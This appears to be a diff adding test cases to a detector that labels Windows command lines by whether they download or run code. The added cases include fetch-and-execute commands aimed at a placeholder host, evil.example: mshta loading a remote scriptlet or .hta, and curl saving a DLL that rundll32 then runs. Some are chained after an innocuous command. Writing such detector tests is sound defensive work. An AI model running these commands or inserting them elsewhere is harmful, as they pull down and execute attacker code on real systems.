@@ -260,6 +260,18 @@ export const STARTERS: readonly Technique[] = [
       ],
       ['mshta with code', run('mshta', 'vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""x"":close")'), CODE],
       ['a scriptlet', run('mshta', 'javascript:a=GetObject("script:https://evil.example/x.sct").Exec()'), DOWNLOAD],
+      [
+        'a scriptlet beside the server',
+        run('cmd', '/c', 'mshta javascript:GetObject("script:https://evil.example/x.sct") & notes'),
+        DOWNLOAD,
+      ],
+      ['an address beside the server', run('cmd', '/c', 'mshta https://evil.example/x.hta & notes.exe'), DOWNLOAD],
+      [
+        'a library that was saved',
+        run('cmd', '/c', 'curl -o x.dll https://evil.example/x.dll & rundll32 x.dll,Run'),
+        DOWNLOAD,
+      ],
+      ['another library beside the server', run('cmd', '/c', 'rundll32 x.dll,Run & notes.exe'), NO_DOWNLOAD],
       ['a file of mshta', run('mshta', 'x.hta'), NO_CODE],
       ['another library', run('rundll32', 'notes.dll,Serve', '-e', 'x'), NO_CODE],
     ] satisfies readonly Case[],
